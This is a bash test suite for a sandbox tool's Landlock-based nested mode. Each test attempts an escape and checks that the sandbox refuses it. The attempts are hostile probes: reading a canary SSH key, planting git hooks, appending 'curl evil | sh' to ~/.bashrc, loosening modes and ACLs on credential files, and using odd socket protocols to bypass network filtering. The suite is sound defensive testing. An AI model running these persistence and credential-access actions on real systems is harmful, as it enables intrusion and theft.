#!/bin/bash
# The nested mode (backend/linux/nested.c, landlock.c; docs/SECURITY.md "The
# nested mode"): no bubblewrap, no namespaces; the plan as a Landlock
# ruleset, the seccomp table, the shim. Most programs here are a static
# binary built in the test (tests/progs/nestedprobe.c, cc -static) run with
# --no-shim, so Landlock is what refuses, never the shim; every assertion
# looks at the host (the canary's bytes, the file's content, what a server
# outside saw). "A container without user namespaces" is simulated by
# running sbx-preload inside `bwrap --unshare-user --disable-userns`, where
# bubblewrap cannot make namespaces; one test (as root only) switches them
# off for the whole machine for a few seconds.
set -u
# shellcheck source=lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

PROGS=$(mktemp -d /var/tmp/sbx-nested-progs.XXXXXX)
SRV_PIDS=""
cleanup() {
	for p in $SRV_PIDS; do kill "$p" 2>/dev/null; done
	rm -rf "$PROGS"
}
trap cleanup EXIT
chmod 755 "$PROGS"
P="$PROGS/nestedprobe"
if ! built nestedprobe.static "$P" 2>"$PROGS/log"; then
	echo "skip - nested: cannot build nestedprobe with cc -static: $(head -2 "$PROGS/log")"
	exit 0
fi
abi=$(python3 -c 'import ctypes; print(ctypes.CDLL(None, use_errno=True).syscall(444, None, 0, 1))' 2>/dev/null)
if [ -z "$abi" ] || [ "$abi" -lt 1 ]; then
	echo "skip - nested: this kernel has no Landlock"
	exit 0
fi

# nx ARGS: sbx-preload in the nested mode, the config in $B/n.ini
nini() { printf '[sandbox]\nnested = true\n%s\n' "${1:-}" > "$B/n.ini"; }
nx() { sx -c "$B/n.ini" "$@"; }
# a static program's result line
said() { grep -qx -- "$1" "$B/out"; }

# A loopback TCP server outside the sandbox that counts connections (on
# 127.0.0.1, or the address given).
start_counter() {
	python3 - "$B/hits" "$B/port" "${1:-127.0.0.1}" <<'EOF' &
import socket, sys
s = socket.socket(); s.bind((sys.argv[3], 0)); s.listen(16)
open(sys.argv[2] + ".tmp", "w").write(str(s.getsockname()[1]))
import os; os.rename(sys.argv[2] + ".tmp", sys.argv[2])
while True:
    c, _ = s.accept(); open(sys.argv[1], "a").write("hit\n"); c.close()
EOF
	SRV_PIDS="$SRV_PIDS $!"
	for _ in $(seq 50); do [ -f "$B/port" ] && break; sleep 0.1; done
	PORT=$(cat "$B/port")
}
hits() { [ -f "$B/hits" ] && wc -l < "$B/hits" || echo 0; }
# hits_reach N: the counter writes a hit after its accept(), which may come
# after the client has exited: wait for N (at most 5 s), then say the count
hits_reach() {
	for _ in $(seq 50); do [ "$(hits)" -ge "$1" ] && break; sleep 0.1; done
	hits
}

# ---- the start-up line

t startup_line_names_the_layers_and_what_is_weaker
nini
nx -- true
if [ $RC -eq 0 ] && has "nested mode (nested = true): Landlock ABI $abi and the seccomp table, no namespaces; weaker than the full boundary: " err &&
   has "TCP filtered by port, not address (UDP refused)" err &&
   has "protected names missing at start not guarded" err; then ok
else bad "rc=$RC"; fi

# ---- reads

t canary_read_refused_static_no_shim
nini
nx -q --no-shim -- "$P" read "$HOME/.ssh/id_ed25519"
if ! grep -q "$SECRET" "$B/out" && said "open: EACCES" && [ $RC -eq 1 ]; then ok
else bad "rc=$RC out=$(cat "$B/out")"; fi

t canary_read_refused_and_explained_with_the_shim
nini
nx -- cat "$HOME/.ssh/id_ed25519"
if ! grep -q "$SECRET" "$B/out" && ! grep -q "$SECRET" "$B/err" && has "denied read of ~/.ssh/id_ed25519" err; then ok
else bad "rc=$RC"; fi

t canary_reached_through_a_link_in_the_workspace_refused
nini
ln -s "$HOME/.ssh" keys
nx -q --no-shim -- "$P" read keys/id_ed25519
if ! grep -q "$SECRET" "$B/out" && said "open: EACCES"; then ok; else bad "out=$(cat "$B/out")"; fi

# /tmp is the host's here (no private one hides it): a deny_read there is a
# Landlock hole like any other, also through a link the program made
t deny_read_under_the_hosts_tmp_refused
T_TMP=$(mktemp -d /tmp/sbx-it-tmpdeny.XXXXXX)
echo "$SECRET" > "$T_TMP/secret"
nini "[filesystem]
deny_read = $T_TMP/secret"
ln -s "$T_TMP/secret" link
nx -q --no-shim -- sh -c "$P read $T_TMP/secret; $P read link"
rm -rf "$T_TMP"
if ! grep -q "$SECRET" "$B/out" && [ "$(grep -cx "open: EACCES" "$B/out")" -eq 2 ]; then ok
else bad "out=$(cat "$B/out")"; fi

t reads_elsewhere_work
nini
echo "plain-$RANDOM" > "$HOME/notes"
want=$(cat "$HOME/notes")
nx -q --no-shim -- "$P" read "$HOME/notes"
if said "read: $want" && [ $RC -eq 0 ]; then ok; else bad "rc=$RC out=$(cat "$B/out")"; fi

# ---- writes

t write_outside_the_workspace_refused
nini
nx -q --no-shim -- "$P" write "$B/outside.txt" escaped
if [ ! -e "$B/outside.txt" ] && said "open: EACCES"; then ok; else bad "out=$(cat "$B/out")"; fi

t overwrite_outside_the_workspace_refused
nini
echo original > "$B/kept.txt"
nx -q --no-shim -- "$P" write "$B/kept.txt" changed
if [ "$(cat "$B/kept.txt")" = original ]; then ok; else bad "now $(cat "$B/kept.txt")"; fi

# and a deny_write there is a hole in the host's /tmp, a write root here
t deny_write_under_the_hosts_tmp_refused
T_TMP=$(mktemp -d /tmp/sbx-it-tmpdeny.XXXXXX)
echo original > "$T_TMP/kept"
nini "[filesystem]
deny_write = $T_TMP/kept"
nx -q --no-shim -- "$P" write "$T_TMP/kept" changed
now=$(cat "$T_TMP/kept")
rm -rf "$T_TMP"
if [ "$now" = original ] && said "open: EACCES"; then ok; else bad "now $now out=$(cat "$B/out")"; fi

t write_inside_the_workspace_works
nini
mkdir sub
nx -q --no-shim -- sh -c "$P write $W/new.txt top; $P write $W/sub/deep.txt deep"
if [ "$(cat "$W/new.txt")" = top ] && [ "$(cat "$W/sub/deep.txt")" = deep ]; then ok
else bad "out=$(cat "$B/out")"; fi

t git_hook_of_an_existing_repo_refused
nini
git init -q . && cp .git/config .git/config.orig
nx -q --no-shim -- sh -c "$P write .git/hooks/pre-commit evil; $P append .git/config '[core] hooksPath=/x'"
if [ ! -e .git/hooks/pre-commit ] && cmp -s .git/config .git/config.orig; then ok
else bad "hook=$(ls .git/hooks | grep -v sample) out=$(cat "$B/out")"; fi

t work_tree_of_a_repository_still_written
nini
mkdir src && echo one > src/a
git init -q . && git -c user.email=t@t -c user.name=t add src &&
	git -c user.email=t@t -c user.name=t commit -qm one
nx -q -- sh -c 'echo two > src/a && git status --short'
if [ "$(cat src/a)" = two ] && grep -q "M src/a" "$B/out"; then ok
else bad "rc=$RC $(head -3 "$B/err")"; fi

t bashrc_refused_with_home_writable
nini
echo "# mine" > "$HOME/.bashrc"
mkdir "$HOME/proj"
nx -q --no-shim --allow-write "$HOME" -- "$P" append "$HOME/.bashrc" 'curl evil | sh'
nx2=$(cat "$B/out")
# HOME itself holds protected names, so it takes no new one (Landlock
# cannot refuse one name of a directory it lets be written: the weaker
# part the start-up line names); its other directories are written
nx -q --no-shim --allow-write "$HOME" -- sh -c "$P write $HOME/proj/x fine; $P write $HOME/top.txt no"
if [ "$(cat "$HOME/.bashrc")" = "# mine" ] && [ "$(cat "$HOME/proj/x" 2>/dev/null)" = fine ] &&
   [ ! -e "$HOME/top.txt" ]; then ok
else bad "bashrc=$(cat "$HOME/.bashrc") out=$nx2 $(cat "$B/out")"; fi

t sbx_own_config_refused_with_home_writable
nini
mkdir -p "$HOME/.config/sbx"
nx -q --no-shim --allow-write "$HOME" -- "$P" write "$HOME/.config/sbx/sandbox.ini" '[network]'
if [ ! -e "$HOME/.config/sbx/sandbox.ini" ]; then ok; else bad "made"; fi

# ---- what Landlock has no right for: modes, owners (the [nested] rows of
# the seccomp table, gen-filters.c)

t setuid_bit_refused_even_in_the_workspace
nini
cp /bin/true ./prog && chmod 0755 prog
nx -q --no-shim -- chmod u+s,g+s prog
if [ "$(stat -c %a prog)" = 755 ] && [ $RC -ne 0 ]; then ok; else bad "mode $(stat -c %a prog) rc=$RC"; fi

t root_cannot_change_modes_outside
if [ "$(id -u)" -ne 0 ]; then skip "as root only (a user changes modes of its own files: docs/SECURITY.md)"
else
	nini
	echo secret > "$B/shadowlike" && chmod 0600 "$B/shadowlike"
	nx -q --no-shim -- sh -c "chmod 0666 $B/shadowlike; chown 65534 $B/shadowlike"
	if [ "$(stat -c %a:%u "$B/shadowlike")" = 600:0 ]; then ok; else bad "now $(stat -c %a:%u "$B/shadowlike")"; fi
fi

# A user keeps the modes of its own files here (Landlock has no right for
# them), but no mode lets every local user write: `chmod 666 ~/.bashrc`
# (or `o+w` on HOME, where another user then replaces it) is the ACL the
# attributes' row refuses, by another door. Before 2026-11-29 a user's
# program did both (raw chmod, no shim). Group write and `chmod +x` stay.
t world_write_mode_refused_for_every_user
nini
echo rc > "$HOME/.bashrc" && chmod 0644 "$HOME/.bashrc" && chmod 0700 "$HOME/.ssh"
echo x > own && chmod 0644 own
nx -q --no-shim -- sh -c "chmod 0666 $HOME/.bashrc; chmod o+w $HOME/.ssh; chmod 1777 own; chmod 0775 own; echo END"
m=$(stat -c %a "$HOME/.bashrc"):$(stat -c %a "$HOME/.ssh"):$(stat -c %a own)
want=644:700:775
[ "$(id -u)" -eq 0 ] && want=644:700:644 # root: no chmod at all (above)
if has '^END$' out && [ "$m" = "$want" ]; then ok; else bad "modes $m out=$(tr '\n' ' ' < "$B/out")"; fi

# A file's mode and owner where the policy keeps the file (Landlock has no
# right for either): `chmod 755 ~/.ssh`, a key made readable (644), ~/.ssh
# group-writable (sshd then refuses it), 000 on ~/.bashrc, a git hook, a
# deep .env, a file outside the writable roots; and chown/chgrp of them
# (our own ids: any user may ask that). By path, through a symlink, by
# descriptor (O_RDONLY and O_PATH) and without following, from a static
# program and from coreutils without the shim; with the shim too, a
# report line each. Before 2026-11-29 every one but root's went through.
# The workspace's own files keep theirs (`chmod +x`, `chown`).
t mode_and_owner_of_kept_files_refused_static_and_coreutils
nini
mkrepo . && printf '#!/bin/sh\n' > .git/hooks/pre-commit && chmod 755 .git/hooks/pre-commit
mkdir -p x/b/c/d "$HOME/.aws" && echo E=1 > x/b/c/d/.env && chmod 600 x/b/c/d/.env
echo k > "$HOME/.aws/credentials" && echo rc > "$HOME/.bashrc" && echo n > "$HOME/notes.txt"
chmod 600 "$HOME/.aws/credentials" "$HOME/.ssh/id_ed25519" && chmod 700 "$HOME/.ssh" "$HOME/.aws"
chmod 644 "$HOME/.bashrc" "$HOME/notes.txt"
ln -s "$HOME/.ssh" lnk && echo x > tool.sh && chmod 644 tool.sh
kept=("$HOME/.ssh" "$HOME/.ssh/id_ed25519" "$HOME/.aws/credentials" "$HOME/.bashrc" "$HOME/notes.txt"
      "$W/.git/hooks/pre-commit" "$W/x/b/c/d/.env")
before=$(stat -c '%a %Z' "${kept[@]}")
sleep 1.1 # a chown that went through moves the change time: a second apart
cmds="$P chmod path $HOME/.ssh 755; $P chmod path lnk 770; $P chmod path lnk/id_ed25519 644
	$P chmod opath $HOME/.aws/credentials 644; $P chmod proc $HOME/.aws/credentials 640
	$P chmod fd $HOME/.bashrc 000; $P chmod nofollow .git/hooks/pre-commit 644
	$P chmod opath x/b/c/d/.env 644; $P chmod path $HOME/notes.txt 600
	$P chown path $HOME/.ssh; $P chown nofollow $HOME/.bashrc; $P chown fd .git/hooks/pre-commit
	$P chown opath x/b/c/d/.env; $P chown path lnk/id_ed25519
	$P chmod path tool.sh 755; $P chown fd tool.sh; $P chmod opath tool.sh 755; echo END"
nx -q --no-shim -- sh -c "$cmds"
cp "$B/out" "$B/static"; cp "$B/err" "$B/static.err"
nx -q --no-shim -- sh -c "chmod 755 lnk; chmod 000 $HOME/.bashrc .git/hooks/pre-commit
	chown $(id -u) x/b/c/d/.env; chgrp $(id -g) $HOME/notes.txt; chmod 755 tool.sh && echo TOOL; echo END"
cp "$B/out" "$B/dyn"; cp "$B/err" "$B/dyn.err"
# HOME writable: its hidden entries stay the allow-list's (~/.pyenv)
mkdir -p "$HOME/.pyenv" && chmod 755 "$HOME/.pyenv" && echo v > "$HOME/visible.txt" && chmod 644 "$HOME/visible.txt"
nx -q --no-shim -w "$HOME" -- sh -c "$P chmod path $HOME/.pyenv 700; $P chmod path $HOME/visible.txt 600"
cp "$B/out" "$B/homeout"
nx -q -- sh -c "chmod 600 $HOME/.bashrc; echo END"
after=$(stat -c '%a %Z' "${kept[@]}")
n_ok=$(grep -c ': ok$' "$B/static"); n_kept=$(grep -cE '^(chmod|chown): (EROFS|EPERM)$' "$B/static")
if [ "$(id -u)" -eq 0 ]; then want_ok=0 want_kept=17 tool=644; else want_ok=3 want_kept=14 tool=755; fi
if [ "$after" = "$before" ] && [ "$n_ok" -eq "$want_ok" ] && [ "$n_kept" -eq "$want_kept" ] &&
   grep -qx END "$B/static" && grep -qx END "$B/dyn" && has '^END$' out &&
   [ "$(stat -c %a tool.sh)" = "$tool" ] && [ "$(stat -c %a "$HOME/.pyenv")" = 755 ] &&
   grep -qE '^chmod: (EROFS|EPERM)$' "$B/homeout" &&
   { [ "$(id -u)" -eq 0 ] || { grep -qx TOOL "$B/dyn" && grep -qx 'chmod: ok' "$B/homeout" &&
	[ "$(stat -c %a "$HOME/visible.txt")" = 600 ] &&
	hasf "denied write of ~/.ssh by \`deny_read = ~/.ssh\`" static.err &&
	hasf 'denied write of ~/.bashrc' static.err &&
	hasf 'denied write of ~/.bashrc' err; }; }; then ok
else bad "home=$(tr '\n' ' ' < "$B/homeout") before=$(tr '\n' ' ' <<<"$before") after=$(tr '\n' ' ' <<<"$after") static=$(tr '\n' ' ' < "$B/static") dyn=$(tr '\n' ' ' < "$B/dyn") err=$(tr '\n' ' ' < "$B/static.err" | head -c 600)"; fi

# Extended attributes, for every user: Landlock has no right for them and
# a filter cannot read the path, so the table refuses them all. Before
# 2026-11-29 only root's were refused: a user's program set an ACL on
# ~/.bashrc granting another user write (`setfacl -m u:nobody:rw`), and
# attributes on the workspace's files. Static (raw setxattr, fsetxattr on
# a read-only descriptor) and setfacl with the shim (a report line).
t attributes_refused_for_every_user_static_and_setfacl
if command -v setfacl >/dev/null && setfattr -n user.t -v 1 "$B" 2>/dev/null; then
	nini
	echo rc > "$HOME/.bashrc" && echo x > plain
	nx -q --no-shim -- sh -c "$P xattr $HOME/.bashrc user.sbx evil; $P fxattr plain user.sbx evil"
	cp "$B/out" "$B/static"
	nx -q -- sh -c "setfacl -m u:nobody:rw $HOME/.bashrc plain 2>&1; echo END"
	got=$(getfattr -d -m - --absolute-names "$HOME/.bashrc" "$W/plain" 2>/dev/null)
	if grep -qx 'setxattr: EPERM' "$B/static" && grep -qx 'fsetxattr: EPERM' "$B/static" &&
	   has '^END$' out && ! grep -q 'user.sbx\|posix_acl' <<<"$got" &&
	   ! getfacl -cp "$HOME/.bashrc" "$W/plain" 2>/dev/null | grep -q nobody &&
	   hasf 'denied write of ~/.bashrc by `deny_write = .bashrc`' err &&
	   hasf 'the nested mode refuses every change of extended attributes' err; then ok
	else bad "static=$(tr '\n' ' ' < "$B/static") out=$(tr '\n' ' ' < "$B/out") attrs=$(tr '\n' ' ' <<<"$got")"; fi
else skip "no setfacl (make deps-test) or no user attributes on /var/tmp"; fi

# ---- the network

t loopback_server_refused_network_off
nini
start_counter
nx -q --no-shim -- "$P" connect "$PORT"
if [ "$(hits)" -eq 0 ] && said "connect: EACCES"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi

t loopback_server_on_another_port_refused_with_the_proxy
nini "[network]
allow_domains = allowed.test"
start_counter
nx -q --no-shim -- "$P" connect "$PORT"
if [ "$(hits)" -eq 0 ] && said "connect: EACCES"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi

t udp_refused_network_off
nini
python3 -c '
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0))
open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1]))
import os; os.rename(sys.argv[1] + ".tmp", sys.argv[1])
while True:
    d, _ = s.recvfrom(100); open(sys.argv[2], "a").write("hit\n")' "$B/uport" "$B/hits" &
SRV_PIDS="$SRV_PIDS $!"
for _ in $(seq 50); do [ -f "$B/uport" ] && break; sleep 0.1; done
nx -q --no-shim -- "$P" udp "$(cat "$B/uport")"
# the same datagram from the host arrives (the server works)
"$P" udp "$(cat "$B/uport")" >/dev/null
sleep 0.3
if [ "$(hits_reach 1)" -eq 1 ] && said "socket: EPERM"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi

t network_open_reaches_loopback
nini "[network]
allow_domains = *"
start_counter
nx -q --no-shim -- "$P" connect "$PORT"
if [ "$(hits_reach 1)" -eq 1 ] && said "connected"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi

t proxy_allowed_host_works_denied_refused_curl_and_python
if ! command -v curl >/dev/null; then skip "no curl"
else
	mkdir site && echo "page-$RANDOM" > site/page
	python3 -u -m http.server --bind 127.0.0.1 0 --directory site >"$B/http.log" 2>&1 &
	SRV_PIDS="$SRV_PIDS $!"
	HPORT=""
	for _ in $(seq 50); do
		HPORT=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$B/http.log" | head -1)
		[ -n "$HPORT" ] && break; sleep 0.1
	done
	printf '127.0.0.1 allowed.test denied.test\n' > "$B/hosts"
	nini "[network]
allow_domains = allowed.test, 127.0.0.1:$HPORT"
	SBX_TEST_HOSTS="$B/hosts" timeout 60 "$SBX_HOOKS" -c "$B/n.ini" -q -- sh -c \
		"curl -s http://allowed.test:$HPORT/page; echo; curl -s -o /dev/null -w 'denied:%{http_code}' http://denied.test:$HPORT/page" \
		>"$B/out" 2>"$B/err"
	RC=$?
	got=$(grep -c 'GET /page' "$B/http.log")
	curl_out=$(cat "$B/out") curl_rc=$RC
	# a program that ignores the proxy variables: the shim answers the
	# name (UDP to a nameserver is refused) and carries the connect
	# through the proxy's SOCKS listener
	SBX_TEST_HOSTS="$B/hosts" timeout 60 "$SBX_HOOKS" -c "$B/n.ini" -q -- env -u HTTP_PROXY -u http_proxy \
		-u ALL_PROXY -u all_proxy python3 -c '
import socket, sys
s = socket.create_connection(("allowed.test", int(sys.argv[1])), timeout=10)
s.sendall(b"GET /page HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
d = b""
while True:
    b = s.recv(4096)
    if not b: break
    d += b
print(d.decode().split("\r\n\r\n", 1)[1].strip())' "$HPORT" >"$B/out" 2>"$B/err"
	RC=$?
	got2=$(grep -c 'GET /page' "$B/http.log")
	if [ -n "$HPORT" ] && echo "$curl_out" | grep -qx "$(cat site/page)" &&
	   echo "$curl_out" | grep -q 'denied:403' && [ "$got" -eq 1 ] &&
	   grep -qx "$(cat site/page)" "$B/out" && [ "$got2" -eq 2 ]; then ok
	else bad "rc=$curl_rc/$RC gets=$got/$got2 curl=$(echo "$curl_out" | head -c 200) python=$(head -c 200 "$B/out")"; fi
fi

t other_stream_protocols_and_families_refused_network_off
# Landlock's TCP rules see socket(AF_INET/6, SOCK_STREAM, 0 or 6) only:
# SMC (IPPROTO_SMC 256, AF_SMC 43) falls back to plain TCP to anywhere,
# MPTCP (262) and SCTP (SOCK_SEQPACKET) are other protocols, AF_RXRPC (33)
# sends UDP; TCP and NETLINK_ROUTE stay. EPERM is the table's; a kernel
# without them says EPROTONOSUPPORT, EAFNOSUPPORT or ESOCKTNOSUPPORT, so
# the refusal shows here whether this kernel has SMC or not. With the
# shim, a dynamic program's refusal is said (WIRE_SOCKET).
nini
nx -q --no-shim -- sh -c "for a in '2 1 256' '10 1 256' '43 1 0' '2 1 262' '10 1 262' '2 5 0' '2 5 132' '33 2 2'; do $P socket \$a; done; $P socket 2 1 0; $P socket 2 1 6; $P socket 10 1 0; $P socket 16 3 0"
static_out=$(cat "$B/out")
nx -q -- python3 -c '
import socket
for a in ((2, 1, 256), (43, 1, 0)):
    try: socket.socket(*a); print("made")
    except OSError as e: print(e.errno)'
py_out=$(cat "$B/out")
if [ "$(echo "$static_out" | head -8 | grep -cx 'socket: EPERM')" -eq 8 ] &&
   [ "$(echo "$static_out" | tail -4 | grep -cx 'socket made')" -eq 4 ] &&
   [ "$(echo "$py_out" | grep -cx 1)" -eq 2 ] &&
   hasf "sbx: denied socket AF_INET, SOCK_STREAM, protocol 256 — the seccomp table refuses it" err &&
   hasf "sbx: denied socket domain 43, SOCK_STREAM, protocol 0" err; then ok
else bad "static=$(echo $static_out) python=$(echo $py_out)"; fi

t host_ports_refused_they_would_open_the_port_on_every_address
# Landlock grants a TCP port on every address: host_ports = N would reach
# 127.0.0.2:N, or any server's N. Refused (125), or left out with
# fallback = warn; never granted.
start_counter 127.0.0.2
nini "[network]
host_ports = $PORT"
nx -q --no-shim -- sh -c "$P write $W/ran yes; $P connect $PORT 127.0.0.2"
r1=$RC e1=$(cat "$B/err") h1=$(hits)
printf '[sandbox]\nnested = true\nfallback = warn\n[network]\nhost_ports = %s\n' "$PORT" > "$B/n.ini"
nx --no-shim -- "$P" connect "$PORT" 127.0.0.2
if [ $r1 -eq 125 ] && [ ! -e "$W/ran" ] && [ "$h1" -eq 0 ] &&
   echo "$e1" | grep -q "host_ports cannot be held to the host's 127.0.0.1 in the nested mode: Landlock filters TCP by port.*nothing was run (remove host_ports" &&
   said "connect: EACCES" && [ "$(hits)" -eq 0 ] && has "host_ports are not served in the nested mode: Landlock filters TCP by port.*(fallback = warn)" err; then ok
else bad "r1=$r1 hits=$h1/$(hits) e1=$e1 out=$(cat "$B/out")"; fi

# proxy_other_user RUNNER OTHER: a nested run as RUNNER with the proxy;
# RUNNER outside the run and OTHER each send the same CONNECT to its HTTP
# listener on the host's 127.0.0.1. Sets MINE and THEIRS: the first bytes
# each got back.
cat > "$PROGS/connect.py" <<'EOF'
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
s.sendall(b"CONNECT denied.test:443 HTTP/1.1\r\nHost: denied.test:443\r\n\r\n")
try:
    print(s.recv(12).decode() or "closed")
except OSError as e:
    print("error", e.errno)
EOF
chmod 644 "$PROGS/connect.py"
# With a third argument, sbx-preload runs under a filter that refuses
# NETLINK_SOCK_DIAG sockets (a kernel without inet_diag), so the owner is
# found in /proc/net/tcp instead.
proxy_other_user() {
	local d run port wrap=""
	d=$(mktemp -d /var/tmp/sbx-it-u.XXXXXX)
	mkdir -p "$d/home" "$d/ws"
	printf '[sandbox]\nnested = true\n[network]\nallow_domains = allowed.test\n' > "$d/n.ini"
	chown -R "$1" "$d"
	[ -n "${3:-}" ] && wrap="bwrap --dev-bind / / --seccomp 9 --"
	runuser -u "$1" -- env HOME="$d/home" sh -c "cd $d/ws && timeout 60 $wrap $SBX -c $d/n.ini -q -- sh -c 'echo \"\$HTTP_PROXY\" > p.tmp && mv p.tmp proxy; while [ ! -e done ]; do sleep 0.1; done' 9<$PROGS/nodiag.bpf" 2>"$B/err" &
	run=$!
	for _ in $(seq 100); do [ -s "$d/ws/proxy" ] && break; sleep 0.1; done
	port=$(sed -n 's|^http://127.0.0.1:\([0-9]*\).*|\1|p' "$d/ws/proxy")
	MINE=$(runuser -u "$1" -- python3 "$PROGS/connect.py" "$port")
	THEIRS=$(runuser -u "$2" -- python3 "$PROGS/connect.py" "$port")
	touch "$d/ws/done"
	wait $run
	rm -rf "$d"
}

cat > "$PROGS/nodiag.c" <<'EOF'
#include <errno.h>
#include <linux/netlink.h>
#include <seccomp.h>
#include <sys/socket.h>
int main(void)
{
	scmp_filter_ctx c = seccomp_init(SCMP_ACT_ALLOW);
	if (!c || seccomp_rule_add(c, SCMP_ACT_ERRNO(EPROTONOSUPPORT), SCMP_SYS(socket), 2,
				   SCMP_A0(SCMP_CMP_EQ, AF_NETLINK),
				   SCMP_A2(SCMP_CMP_EQ, NETLINK_SOCK_DIAG)) ||
	    seccomp_export_bpf(c, 1))
		return 1;
	return 0;
}
EOF
cc -o "$PROGS/nodiag" "$PROGS/nodiag.c" -lseccomp 2>/dev/null && "$PROGS/nodiag" > "$PROGS/nodiag.bpf"
chmod 644 "$PROGS/nodiag.bpf" 2>/dev/null

t proxy_listener_refuses_another_local_user
if [ "$(id -u)" -ne 0 ] || ! id sbxtest >/dev/null 2>&1; then
	skip "as root with the user sbxtest (run.sh makes it), who play each other's other user"
else
	proxy_other_user root sbxtest
	m1=$MINE t1=$THEIRS e1=$(cat "$B/err")
	proxy_other_user sbxtest root
	if [ "$m1" = "HTTP/1.1 403" ] && [ "$MINE" = "HTTP/1.1 403" ] &&
	   case "$t1$THEIRS" in *HTTP*) false ;; *) true ;; esac &&
	   echo "$e1" | grep -q "refused a connection to the proxy's listener on the host's 127.0.0.1 from a process of another user's" &&
	   has "refused a connection to the proxy's listener" err; then ok
	else bad "root's run: mine=$m1 theirs=$t1; sbxtest's run: mine=$MINE theirs=$THEIRS"; fi
fi

t proxy_listener_refuses_another_local_user_found_in_proc_net_tcp
if [ "$(id -u)" -ne 0 ] || ! id sbxtest >/dev/null 2>&1; then
	skip "as root with the user sbxtest (run.sh makes it), who play each other's other user"
elif [ ! -s "$PROGS/nodiag.bpf" ] || ! bwrap --dev-bind / / -- true 2>/dev/null; then
	skip "cannot build a filter with libseccomp, or run bwrap here"
else
	proxy_other_user sbxtest root nodiag
	if [ "$MINE" = "HTTP/1.1 403" ] && case "$THEIRS" in *HTTP*) false ;; *) true ;; esac &&
	   has "refused a connection to the proxy's listener" err; then ok
	else bad "sbxtest's run: mine=$MINE theirs=$THEIRS"; fi
fi

# ---- what this kernel's Landlock cannot hold: the ABI forced lower
# (build/tests/sbx-preload-hooks reads SBX_TEST_LANDLOCK_ABI; the ruleset and
# seccomp rows sbx makes for that ABI, applied by this kernel). Below ABI 4
# there are no TCP rules: these runs open the network (allow_domains = *),
# as a Debian 12 or Ubuntu 22.04 host's container would have to.

SBX_ABI="$SBX_HOOKS"
# ax N ARGS: sbx-preload with Landlock ABI N, the config in $B/n.ini
ax() {
	local n=$1
	shift
	SBX_TEST_LANDLOCK_ABI=$n timeout 60 "$SBX_ABI" -c "$B/n.ini" "$@" >"$B/out" 2>"$B/err"
	RC=$?
}
for n in 1 2 3; do
t "truncation_outside_refused_landlock_abi_$n"
if [ ! -x "$SBX_ABI" ]; then skip "no sbx-preload-hooks (make build/tests/sbx-preload-hooks)"
elif [ "$abi" -lt "$n" ]; then skip "this kernel's Landlock is ABI $abi"
else
	nini "[network]
allow_domains = *"
	echo "# mine" > "$HOME/.bashrc"
	git init -q . && printf '#!/bin/sh\nexit 0\n' > .git/hooks/pre-commit
	cp .git/hooks/pre-commit "$B/hook.orig"
	echo kept > "$B/outside.txt"
	targets="$HOME/.bashrc $HOME/.ssh/id_ed25519 $W/.git/hooks/pre-commit $B/outside.txt"
	ax "$n" -- true
	line=$(cat "$B/err")
	# a static program without the shim: truncate(2), an O_TRUNC open
	# for reading and for neither (access mode 3), openat2's
	cmds=""
	for f in $targets; do cmds="$cmds $P truncate $f; $P otrunc $f 0; $P otrunc $f 3; $P openat2 $f;"; done
	ax "$n" -q --no-shim -- sh -c "$cmds"
	static_out=$(cat "$B/out")
	# a dynamic one (python3), without the shim too: the boundary's answer
	ax "$n" -q --no-shim -- python3 -c '
import os, sys
for f in sys.argv[1:]:
    for how in ("truncate", "open"):
        try:
            if how == "truncate": os.truncate(f, 0)
            else: os.close(os.open(f, os.O_RDONLY | os.O_TRUNC))
            print(how, f, "done")
        except OSError as e: print(how, f, e.errno)' $targets
	py_out=$(cat "$B/out")
	# the workspace: a file opened for writing is truncated as before
	echo "long content" > "$W/in.txt"
	ax "$n" -q --no-shim -- python3 -c 'open("in.txt", "w").write("new"); f = open("in.txt", "r+"); f.truncate(1)'
	said_trunc=$(echo "$line" | grep -c "truncation by path and O_TRUNC without write refused everywhere")
	want_said=$([ "$n" -lt 3 ] && echo 1 || echo 0)
	if [ "$(cat "$HOME/.bashrc")" = "# mine" ] && [ "$(cat "$HOME/.ssh/id_ed25519")" = "$SECRET" ] &&
	   cmp -s .git/hooks/pre-commit "$B/hook.orig" && [ "$(cat "$B/outside.txt")" = kept ] &&
	   [ -n "$static_out" ] && ! echo "$static_out" | grep -qE "truncated|opened" &&
	   [ "$(echo "$py_out" | wc -l)" -eq 8 ] && ! echo "$py_out" | grep -q done &&
	   [ "$(cat "$W/in.txt")" = n ] && echo "$line" | grep -q "Landlock ABI $n and the seccomp table" &&
	   [ "$said_trunc" -eq "$want_said" ]; then ok
	else bad "bashrc=$(cat "$HOME/.bashrc") static=$(echo $static_out) python=$(echo $py_out) in=$(cat "$W/in.txt") said=$said_trunc"; fi
fi
done

# ---- scoping (Landlock ABI 6): signals and abstract Unix sockets

t signal_to_a_process_outside_refused
if [ "$abi" -lt 6 ]; then skip "Landlock ABI $abi < 6"
else
	nini
	sleep 300 & victim=$!
	nx -q --no-shim -- "$P" kill "$victim"
	if kill -0 "$victim" 2>/dev/null && said "kill: EPERM"; then ok; else bad "out=$(cat "$B/out")"; fi
	kill "$victim" 2>/dev/null
fi

t abstract_unix_socket_outside_refused
if [ "$abi" -lt 6 ]; then skip "Landlock ABI $abi < 6"
else
	nini "[network]
allow_all_unix_sockets = true"
	name="sbx-nested-$RANDOM$RANDOM"
	python3 -c '
import socket, sys
s = socket.socket(socket.AF_UNIX); s.bind("\0" + sys.argv[1]); s.listen(4)
open(sys.argv[2], "w").write("up")
while True:
    c, _ = s.accept(); open(sys.argv[3], "a").write("hit\n"); c.close()' "$name" "$B/up" "$B/hits" &
	SRV_PIDS="$SRV_PIDS $!"
	for _ in $(seq 50); do [ -f "$B/up" ] && break; sleep 0.1; done
	nx -q --no-shim -- "$P" abstract "$name"
	if [ "$(hits)" -eq 0 ] && said "connect: EPERM"; then ok; else bad "hits=$(hits) out=$(cat "$B/out")"; fi
fi

# ---- processes

t no_process_outlives_the_run
nini
